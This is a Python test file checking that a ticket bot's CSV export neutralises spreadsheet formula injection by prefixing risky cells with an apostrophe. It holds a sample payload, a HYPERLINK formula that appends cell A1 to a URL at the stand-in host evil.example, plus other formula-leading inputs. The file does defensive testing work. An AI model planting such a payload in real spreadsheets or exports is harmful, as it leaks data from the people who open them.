"""`export` never writes a cell that Excel or WPS would run as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

from conftest import ROOM_QN1

from bot.cli import export as export_cli
from storage import Store

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


async def test_formulas_in_names_texts_and_notes_are_neutralised(open_chat, tmp_path):
    db = tmp_path / "bot.db"
    chat = await open_chat(store=Store.open(db))
    await chat.say(HOSTILE, "+3栋门口井盖又翘起来了，晚上走路容易绊倒")
    await chat.say("马建民", "收到", ROOM_QN1)
    await chat.say("马建民", "完成 1 @SUM(1+1)已更换井盖", ROOM_QN1)
    assert chat.ticket(1).status == "resolved"
    chat.store.close()

    config = tmp_path / "gridbot.toml"
    config.write_text(
        (Path(__file__).resolve().parents[1] / "config.example.toml").read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    for events in (False, True):
        out = tmp_path / f"out-{events}.csv"
        argv = ["--config", str(config), "--db", str(db), "--from", "2026-11-23",
                "--to", "2026-11-23", "--out", str(out)] + (["--events"] if events else [])
        assert export_cli.main(argv) == 0
        with out.open(encoding="utf-8-sig", newline="") as f:
            cells = [value for row in csv.reader(f) for value in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")]
        if not events:
            assert f"'{HOSTILE}" in cells  # the reporter, shown as written
            assert any(c.startswith("'+3栋门口井盖") for c in cells)
        assert any(c.startswith("'@SUM(1+1)") for c in cells)


def test_plain_values_are_left_alone():
    assert export_cli.cell("张阿姨") == "张阿姨"
    assert export_cli.cell(12) == 12 and export_cli.cell(-3) == -3
    assert export_cli.cell("-") == "'-" and export_cli.cell("\t=1") == "'\t=1"
